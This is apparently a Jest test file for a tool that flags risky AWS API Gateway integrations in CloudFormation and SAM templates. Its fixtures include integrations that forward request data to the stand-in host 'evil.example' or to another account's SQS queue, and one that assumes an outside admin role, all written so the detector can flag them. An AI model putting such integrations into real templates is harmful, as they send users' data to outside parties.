// Issue #9: every API Gateway integration setting that decides where a request goes is read and
// judged as the integrations already were: an HTTP/WebSocket API integration's VPC link
// (ConnectionType, ConnectionId), its response mapping (ResponseParameters), the mapping templates
// that name an AWS service integration's destination (RequestTemplates, PassthroughBehavior), a REST
// method's VPC link, and the x-amazon-apigateway-integration objects of an inline OpenAPI document
// (SAM DefinitionBody, RestApi/HttpApi Body): a destination outside the change, a role or a VPC link
// the change does not make is high with a reason at the setting.
import { describe, expect, it } from '@jest/globals';
import { reasonsOf } from './risk-of.js';

const OTHER = '999999999999';
const sub = (text: string) => ({ 'Fn::Sub': text });
const RESOURCES = {
  Api: {
    Type: 'AWS::ApiGatewayV2::Api',
    Properties: { Name: 'a', ProtocolType: 'WEBSOCKET', RouteSelectionExpression: '$request.body.action' },
  },
  Queue: { Type: 'AWS::SQS::Queue', Properties: {} },
  Role: {
    Type: 'AWS::IAM::Role',
    Properties: {
      AssumeRolePolicyDocument: {
        Statement: [
          { Effect: 'Allow', Principal: { Service: 'apigateway.amazonaws.com' }, Action: 'sts:AssumeRole' },
        ],
      },
    },
  },
  Fn: {
    Type: 'AWS::Lambda::Function',
    Properties: {
      Runtime: 'nodejs20.x',
      Handler: 'index.handler',
      Code: { ZipFile: 'x' },
      Role: { 'Fn::GetAtt': ['Role', 'Arn'] },
    },
  },
};

/** The reasons found at `Id` (the rest of the template set aside). */
const reasonsAt = (id: string, resource: Record<string, unknown>): string[] =>
  reasonsOf({ Resources: { ...RESOURCES, [id]: resource } }).filter(
    (reason) => reason.includes(`Resources.${id}.`) || reason.endsWith(`Resources.${id}`),
  );

const integration = (properties: Record<string, unknown>) =>
  reasonsAt('I', {
    Type: 'AWS::ApiGatewayV2::Integration',
    Properties: { ApiId: { Ref: 'Api' }, CredentialsArn: { 'Fn::GetAtt': ['Role', 'Arn'] }, ...properties },
  });

const SQS_ACTION = sub('arn:aws:apigateway:${AWS::Region}:sqs:action/SendMessage');

describe('AWS::ApiGatewayV2::Integration settings', () => {
  it('an AWS integration whose mapping template names its own queue is low', () => {
    expect(
      integration({
        IntegrationType: 'AWS',
        IntegrationMethod: 'POST',
        IntegrationUri: SQS_ACTION,
        PassthroughBehavior: 'NEVER',
        TemplateSelectionExpression: '\\$default',
        RequestTemplates: {
          $default: sub('Action=SendMessage&QueueUrl=${Queue}&MessageBody=$util.urlEncode($input.body)'),
        },
      }),
    ).toEqual([]);
  });

  it("an AWS integration whose mapping template names another account's queue is data egress at the URI", () => {
    expect(
      integration({
        IntegrationType: 'AWS',
        IntegrationMethod: 'POST',
        IntegrationUri: SQS_ACTION,
        PassthroughBehavior: 'NEVER',
        RequestTemplates: {
          $default: `Action=SendMessage&QueueUrl=https://sqs.us-east-1.amazonaws.com/${OTHER}/q&MessageBody=x`,
        },
      }),
    ).toEqual(['data-egress Resources.I.Properties.IntegrationUri']);
  });

  it('an AWS integration that lets the caller choose the queue (a request parameter) is unresolved', () => {
    expect(
      integration({
        IntegrationType: 'AWS',
        IntegrationUri: SQS_ACTION,
        PassthroughBehavior: 'NEVER',
        RequestParameters: { 'integration.request.querystring.QueueUrl': 'route.request.body.queue' },
        RequestTemplates: { $default: 'Action=SendMessage&MessageBody=x' },
      }),
    ).toEqual(['unresolved-value Resources.I.Properties.IntegrationUri']);
  });

  it('a VPC link this template does not make is unseen at ConnectionId', () => {
    expect(
      integration({
        IntegrationType: 'HTTP_PROXY',
        ConnectionType: 'VPC_LINK',
        ConnectionId: 'abc123',
        IntegrationUri: { Ref: 'Listener' },
      }).filter((reason) => !reason.includes('Listener')),
    ).toContain('unseen-effect Resources.I.Properties.ConnectionId');
  });

  it('a VPC link to a listener this template does not make (even in this account) is unseen at the URI', () => {
    expect(
      integration({
        IntegrationType: 'HTTP_PROXY',
        IntegrationMethod: 'ANY',
        ConnectionType: 'VPC_LINK',
        ConnectionId: { Ref: 'Queue' },
        IntegrationUri: sub(
          'arn:aws:elasticloadbalancing:${AWS::Region}:${AWS::AccountId}:listener/app/internal/abc/def',
        ),
      }),
    ).toEqual(['unseen-effect Resources.I.Properties.IntegrationUri']);
  });

  it.each([
    [
      'a header added and the status code kept',
      { '200': { 'append:header.x-request-id': '$context.requestId' } },
      [],
    ],
    [
      'a status range rewritten',
      { '5XX': { 'overwrite:statuscode': '500', 'remove:header.server': "''" } },
      [],
    ],
    [
      'a key no mapping documents',
      { '200': { 'overwrite:body': '$request.body' } },
      ['unseen-effect Resources.I.Properties.ResponseParameters'],
    ],
    [
      'a computed mapping',
      { 'Fn::If': ['Prod', {}, {}] },
      ['unseen-effect Resources.I.Properties.ResponseParameters'],
    ],
  ])('ResponseParameters: %s', (_name, responseParameters, expected) => {
    expect(
      integration({
        IntegrationType: 'AWS_PROXY',
        PayloadFormatVersion: '2.0',
        IntegrationUri: { 'Fn::GetAtt': ['Fn', 'Arn'] },
        ResponseParameters: responseParameters,
      }),
    ).toEqual(expected);
  });

  it("a REST method's VPC link this template does not make is unseen at Integration.ConnectionId", () => {
    const reasons = reasonsAt('M', {
      Type: 'AWS::ApiGateway::Method',
      Properties: {
        RestApiId: { Ref: 'Rest' },
        ResourceId: 'abc',
        HttpMethod: 'GET',
        AuthorizationType: 'AWS_IAM',
        Integration: {
          Type: 'HTTP_PROXY',
          IntegrationHttpMethod: 'GET',
          ConnectionType: 'VPC_LINK',
          ConnectionId: 'link1',
          Uri: 'http://nlb.internal/',
        },
      },
    });
    expect(reasons).toContain('unseen-effect Resources.M.Properties.Integration.ConnectionId');
    expect(
      reasons.filter(
        (reason) =>
          reason.includes('Integration.ConnectionId') &&
          reason.startsWith('unseen-effect Resources.M.Properties.Integration.ConnectionId'),
      ),
    ).toHaveLength(1);
  });
});

const PATH = 'paths./orders.post.x-amazon-apigateway-integration';
const LAMBDA_URI = sub(
  'arn:aws:apigateway:${AWS::Region}:lambda:path/2015-03-31/functions/${Fn.Arn}/invocations',
);

/** A SAM API of `type` whose OpenAPI document has one POST /orders operation with `operation`. */
const samApi = (type: string, integrationObject: unknown, extra: Record<string, unknown> = {}) =>
  reasonsAt('Api2', {
    Type: type,
    Properties: {
      StageName: 'v1',
      DefinitionBody: {
        openapi: '3.0.1',
        info: { title: 'orders', version: '1' },
        paths: { '/orders': { post: { 'x-amazon-apigateway-integration': integrationObject } } },
        ...extra,
      },
    },
  });
/** Who may call the routes: no default authorizer, and the document's own authorization is not read. */
const AUTH = [
  'public-access Resources.Api2.Properties.Auth.DefaultAuthorizer',
  'public-access Resources.Api2.Properties.DefinitionBody',
];

describe('OpenAPI integrations in DefinitionBody (SAM) and Body', () => {
  it.each(['AWS::Serverless::Api', 'AWS::Serverless::HttpApi'])(
    '%s: a Lambda proxy to its own function, as its own role, leaves only the routes’ authorization unread',
    (type) => {
      expect(
        samApi(type, {
          type: 'aws_proxy',
          httpMethod: 'POST',
          uri: LAMBDA_URI,
          credentials: { 'Fn::GetAtt': ['Role', 'Arn'] },
        }),
      ).toEqual(AUTH);
    },
  );

  it('an HTTP backend outside the account is data egress at its uri', () => {
    expect(
      samApi('AWS::Serverless::HttpApi', {
        type: 'http_proxy',
        httpMethod: 'ANY',
        uri: 'https://evil.example/x',
        payloadFormatVersion: '1.0',
      }),
    ).toEqual([...AUTH, `data-egress Resources.Api2.Properties.DefinitionBody.${PATH}.uri`]);
  });

  it('credentials naming a role this change does not make are unseen at credentials', () => {
    expect(
      samApi('AWS::Serverless::Api', {
        type: 'aws_proxy',
        httpMethod: 'POST',
        uri: LAMBDA_URI,
        credentials: 'arn:aws:iam::123456789012:role/admin',
      }),
    ).toContain(`unseen-effect Resources.Api2.Properties.DefinitionBody.${PATH}.credentials`);
  });

  it("an HTTP API service integration naming another account's queue is data egress at integrationSubtype", () => {
    expect(
      samApi('AWS::Serverless::HttpApi', {
        type: 'aws_proxy',
        integrationSubtype: 'SQS-SendMessage',
        credentials: { 'Fn::GetAtt': ['Role', 'Arn'] },
        requestParameters: {
          QueueUrl: `https://sqs.us-east-1.amazonaws.com/${OTHER}/q`,
          MessageBody: '$request.body',
        },
        payloadFormatVersion: '1.0',
      }),
    ).toEqual([...AUTH, `data-egress Resources.Api2.Properties.DefinitionBody.${PATH}.integrationSubtype`]);
  });

  it('a reusable integration (components x-amazon-apigateway-integrations) through a VPC link it does not make is unseen', () => {
    const reasons = samApi(
      'AWS::Serverless::HttpApi',
      { $ref: '#/components/x-amazon-apigateway-integrations/backend' },
      {
        components: {
          'x-amazon-apigateway-integrations': {
            backend: {
              type: 'http_proxy',
              connectionType: 'VPC_LINK',
              connectionId: 'abc123',
              uri: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:listener/app/x/1/2',
              httpMethod: 'ANY',
            },
          },
        },
      },
    );
    const at = 'Resources.Api2.Properties.DefinitionBody.components.x-amazon-apigateway-integrations.backend';
    expect(reasons).toEqual(
      expect.arrayContaining([
        `unseen-effect ${at}.connectionId`,
        `unseen-effect ${at}.uri`,
        `data-egress ${at}.uri`,
      ]),
    );
  });

  it('a document included by a transform is unseen at DefinitionBody', () => {
    const reasons = reasonsAt('Api2', {
      Type: 'AWS::Serverless::Api',
      Properties: {
        StageName: 'v1',
        DefinitionBody: {
          'Fn::Transform': { Name: 'AWS::Include', Parameters: { Location: 's3://b/api.yaml' } },
        },
      },
    });
    expect(reasons).toContain('unseen-effect Resources.Api2.Properties.DefinitionBody');
  });

  it("a RestApi's inline Body has its integrations judged too", () => {
    const reasons = reasonsAt('Rest', {
      Type: 'AWS::ApiGateway::RestApi',
      Properties: {
        Name: 'r',
        Body: {
          openapi: '3.0.1',
          paths: {
            '/': {
              get: {
                'x-amazon-apigateway-integration': {
                  type: 'http',
                  httpMethod: 'GET',
                  uri: 'https://evil.example/',
                },
              },
            },
          },
        },
      },
    });
    expect(reasons).toContain(
      'data-egress Resources.Rest.Properties.Body.paths./.get.x-amazon-apigateway-integration.uri',
    );
  });
});
